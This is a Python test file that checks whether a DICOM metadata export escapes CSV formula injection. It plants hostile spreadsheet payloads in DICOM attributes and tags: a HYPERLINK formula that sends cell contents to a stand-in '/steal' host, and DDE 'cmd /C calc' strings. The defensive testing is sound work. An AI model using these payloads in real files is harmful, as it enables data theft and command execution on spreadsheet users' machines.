"""CSV formula injection: DICOM values that a spreadsheet would run, through collect-metadata's CSV.

A sender controls every text attribute of what it stores. Values starting with `=`, `+`,
`-`, `@`, tab or CR come out of the CSV with a leading single quote inside quotes (OWASP),
the value itself kept after it; numbers of numeric VRs (a negative SeriesNumber) stay bare
numbers.
"""

from __future__ import annotations

import csv
import io
import subprocess
from pathlib import Path

import pydicom
import pytest

from tests.factories import write_series
from tests.support.vireo import VireoProcess
from tests.support.workflows import ENDED, create, wait_job

HOSTILE = {
    "SeriesDescription": '=HYPERLINK("http://127.0.0.1:9/steal?"&A2,"click")',
    "Manufacturer": "@SUM(1+1)*cmd|' /C calc'!A0",
    "StudyDescription": "+1+cmd|' /C calc'!A0",
    "InstitutionName": "-2+3+cmd|' /C calc'!A0",
    "ProtocolName": "\t=1+1",
    "StationName": "\r=1+1",
}


@pytest.fixture(scope="module")
def hostile_series(vireo: VireoProcess, tmp_path_factory: pytest.TempPathFactory) -> str:
    out = tmp_path_factory.mktemp("csv")
    series = write_series(out, modality="CT", slices=2, patient_id="=1+1", series_number=-5, seed=9)
    for path in series.paths:
        ds = pydicom.dcmread(path)
        for keyword, value in HOSTILE.items():
            setattr(ds, keyword, value)
        ds.save_as(path)
    subprocess.run(["storescu", "-aec", "csv", "127.0.0.1", str(vireo.dicom_port), *map(str, series.paths)], check=True, capture_output=True, timeout=60)
    vireo.wait_for_instances(2, dataset="csv")
    return series.series_uid


def test_collect_metadata_csv_cannot_run_formulas(vireo: VireoProcess, hostile_series: str) -> None:
    attributes = ["PatientID", *HOSTILE, "SeriesNumber", "instances"]
    with vireo.client() as api:
        api.post("/api/tags", json={"series": [hostile_series], "add": ["=cmd|' /C calc'!A0"]})
        (job,) = create(api, dag_id="collect-metadata", series=[hostile_series], conf={"attributes": [*attributes, "tags"], "format": "csv"})["jobs"]
        job = wait_job(api, job["id"], ENDED, timeout=60)
        assert job["status"] == "finished", api.get(f"/api/jobs/{job['id']}/logs").text
        (listed,) = api.get(f"/api/jobs/{job['id']}/files").json()
        raw = api.get(f"/api/jobs/{job['id']}/files/{listed['name']}").text
    header, row = list(csv.reader(io.StringIO(raw)))
    cells = dict(zip(header, row))
    for keyword, value in HOSTILE.items():
        stored = value.strip()  # the index keeps values as DICOM does: without padding
        assert cells[keyword] in ("'" + stored, "'" + value), (keyword, cells[keyword])
    assert cells["PatientID"] == "'=1+1"
    assert cells["tags"] == "'=cmd|' /C calc'!A0"
    for name, cell in cells.items():
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
        assert not cell.startswith("-") or name == "SeriesNumber", (name, cell)
    # every text field is quoted; the numbers are bare numbers, a negative one included
    data_line = raw.split("\r\n")[1]
    assert data_line.startswith('"\'=1+1"')
    assert data_line.endswith(",-5,2") or ",-5,2," in data_line, data_line
    assert cells["SeriesNumber"] == "-5" and cells["instances"] == "2"


def test_json_output_keeps_the_values_as_they_are(vireo: VireoProcess, hostile_series: str, tmp_path: Path) -> None:
    with vireo.client() as api:
        (job,) = create(api, dag_id="collect-metadata", series=[hostile_series], conf={"attributes": ["SeriesDescription", "SeriesNumber"], "format": "json"})["jobs"]
        job = wait_job(api, job["id"], ENDED, timeout=60)
        (listed,) = api.get(f"/api/jobs/{job['id']}/files").json()
        (record,) = api.get(f"/api/jobs/{job['id']}/files/{listed['name']}").json()
    assert record == {"SeriesDescription": HOSTILE["SeriesDescription"], "SeriesNumber": -5}
